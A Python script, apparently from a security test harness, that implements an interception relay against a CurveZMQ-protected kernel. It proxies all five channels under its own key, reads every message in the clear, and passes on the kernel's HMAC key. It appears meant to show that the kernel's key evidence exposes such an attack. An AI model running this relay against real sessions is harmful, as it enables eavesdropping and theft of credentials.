"""The operator's attack on a kernel channel: a CurveZMQ relay with a key of its own.

``python curve_relay.py KERNEL_CONNECTION.json OUT.json`` connects to the kernel as an
ordinary CurveZMQ client (anyone may: the kernel authenticates itself, not its clients),
serves the same five channels to the analyst's client with its *own* key pair, and forwards
every message both ways, so it reads everything in the clear. It writes the connection
info a client would use (its ports, its public key, the kernel's HMAC key) to OUT.json and
runs until terminated. What it cannot do is make the kernel's evidence bind its key.
"""

from __future__ import annotations

import json
import os
import signal
import sys
import threading

import zmq

# channel -> (socket facing the client, socket facing the kernel)
PAIRS = {
    "shell": (zmq.ROUTER, zmq.DEALER),
    "control": (zmq.ROUTER, zmq.DEALER),
    "stdin": (zmq.ROUTER, zmq.DEALER),
    "hb": (zmq.ROUTER, zmq.DEALER),
    "iopub": (zmq.XPUB, zmq.XSUB),
}


def main(kernel_file: str, out_file: str) -> None:
    kernel = json.load(open(kernel_file))
    server_key = kernel["curve_publickey"].encode()
    public, secret = zmq.curve_keypair()
    context = zmq.Context()
    ports: dict[str, int] = {}
    bound = threading.Barrier(len(PAIRS) + 1)

    def relay(channel: str) -> None:
        front_type, back_type = PAIRS[channel]
        front = context.socket(front_type)
        front.curve_server = True
        front.curve_secretkey, front.curve_publickey = secret, public
        ports[channel] = front.bind_to_random_port("tcp://127.0.0.1")
        back = context.socket(back_type)
        back.curve_publickey, back.curve_secretkey = zmq.curve_keypair()
        back.curve_serverkey = server_key
        back.connect(f"tcp://{kernel['ip']}:{kernel[channel + '_port']}")
        bound.wait()
        zmq.proxy(front, back)

    for channel in PAIRS:
        threading.Thread(target=relay, args=(channel,), daemon=True).start()
    bound.wait()
    info = {"ip": "127.0.0.1", "transport": "tcp", "key": kernel["key"],
            "signature_scheme": kernel.get("signature_scheme", "hmac-sha256"),
            "curve_publickey": public.decode(),
            **{f"{channel}_port": port for channel, port in ports.items()}}
    tmp = out_file + ".tmp"
    with open(tmp, "w") as handle:
        json.dump(info, handle)
    os.replace(tmp, out_file)
    signal.sigwait({signal.SIGTERM, signal.SIGINT})


if __name__ == "__main__":
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
    main(sys.argv[1], sys.argv[2])
